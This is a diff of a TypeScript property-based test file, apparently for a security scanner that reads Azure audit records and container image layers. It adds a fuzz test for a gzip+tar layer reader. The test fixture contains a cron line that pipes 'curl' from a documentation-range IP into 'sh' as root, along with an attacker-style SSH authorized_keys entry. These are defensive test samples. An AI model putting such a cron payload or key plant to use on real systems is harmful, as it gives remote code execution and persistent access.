@@ -11,15 +11,19 @@
  * and mutations that keep a record's meaning (field names in another case, nested objects as JSON
  * text) keep it readable with the same time and operation.
  */
+import { execFileSync } from "node:child_process";
 import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
+import { Readable } from "node:stream";
+import { gzipSync } from "node:zlib";
 import fc from "fast-check";
 import { afterAll, describe, expect, it } from "vitest";
 import { derivePayloads } from "../../src/azure/enrich/payloads.js";
 import { expandEnvelopes } from "../../src/azure/normalize/envelope.js";
 import { type Classified, classify } from "../../src/azure/normalize/index.js";
 import { leanActivity } from "../../src/azure/normalize/lean.js";
-import type { AuditRecord } from "../../src/model/records.js";
+import { readLayer } from "../../src/collectors/registry/layers.js";
+import { type AuditRecord, MAX_PAYLOAD_CHARS } from "../../src/model/records.js";
 import { BUILTIN_RULES_DIR } from "../../src/paths.js";
 import { loadRules } from "../../src/rules/loader.js";
 import { tempDir } from "../helpers.js";
@@ -128,8 +132,8 @@ describe("the record classifier and the shape readers", () => {
         fc.nat(GOOD.length - 1),
         fc.array(fc.nat(wraps.length - 1), { minLength: 1, maxLength: 3 }),
         (g, ws) => {
-          // JSON text is unwrapped one level (docs/inputs.md): text of text is not a layout.
-          fc.pre(!ws.some((w, i) => i > 0 && ws[i - 1] === 5 && (w === 5 || w === 6)));
+          // JSON text is unwrapped one level (docs/inputs.md): text in text is not a layout.
+          fc.pre(ws.filter((w) => w === 5 || w === 6).length <= 1);
           const good = (GOOD[g] as (typeof GOOD)[number]).value;
           const alone = expandEnvelopes(good).map((x) => classify(x, ORIGIN));
           let v: unknown = good;
@@ -278,6 +282,55 @@ describe("the YAML rule loader", () => {
         }
       }),
       { numRuns: 40 },
+    );
+  }, 60_000);
+});
+
+describe("the image layer reader (gzip + tar)", () => {
+  const tmp = tempDir();
+  afterAll(() => tmp.cleanup());
+  let tar: Buffer;
+  const CRON = "*/5 * * * * root curl -fsSL http://198.51.100.7/x.sh | sh\n";
+
+  it("answers any mutated layer (bytes flipped, cut, junk, headers of any size) with files or a problem, never an exception", async () => {
+    // A real archive written by GNU tar (as test/collectors/layer-tar.test.ts does).
+    const root = join(tmp.dir, "rootfs");
+    mkdirSync(join(root, "etc/cron.d"), { recursive: true });
+    mkdirSync(join(root, "root/.ssh"), { recursive: true });
+    writeFileSync(join(root, "etc/cron.d/backup"), CRON);
+    writeFileSync(join(root, "root/.ssh/authorized_keys"), "ssh-ed25519 AAAA x@kali\n");
+    tar = execFileSync("tar", ["--format=pax", "-C", root, "-cf", "-", "."]);
+    const clean = await readLayer(Readable.from([gzipSync(tar)]), 1 << 30);
+    expect(clean.files.map((f) => f.path).sort()).toEqual(["/etc/cron.d/backup", "/root/.ssh/authorized_keys"]);
+    await fc.assert(
+      fc.asyncProperty(
+        fc.oneof(
+          fc
+            .array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 16 })
+            .map((flips) => {
+              const b = Buffer.from(tar);
+              for (const [i, v] of flips) b[i % b.length] = v;
+              return gzipSync(b);
+            }),
+          fc.double({ min: 0, max: 1, noNaN: true }).map((f) => gzipSync(tar.subarray(0, Math.floor(tar.length * f)))),
+          fc.double({ min: 0, max: 1, noNaN: true }).map((f) => {
+            const g = gzipSync(tar);
+            return g.subarray(0, Math.floor(g.length * f));
+          }),
+          fc.uint8Array({ maxLength: 4096 }).map((b) => Buffer.from(b)),
+          fc.uint8Array({ maxLength: 4096 }).map((b) => gzipSync(Buffer.from(b))),
+        ),
+        async (blob) => {
+          const r = await readLayer(Readable.from([blob]), 1 << 30);
+          expect(Array.isArray(r.files)).toBe(true);
+          for (const f of r.files) {
+            expect(f.path.startsWith("/")).toBe(true);
+            expect(f.content.length).toBeLessThanOrEqual(MAX_PAYLOAD_CHARS);
+          }
+          if (r.problem !== undefined) expect(r.problem.length).toBeLessThan(500);
+        },
+      ),
+      { numRuns: 150 },
     );
   }, 60_000);
 });
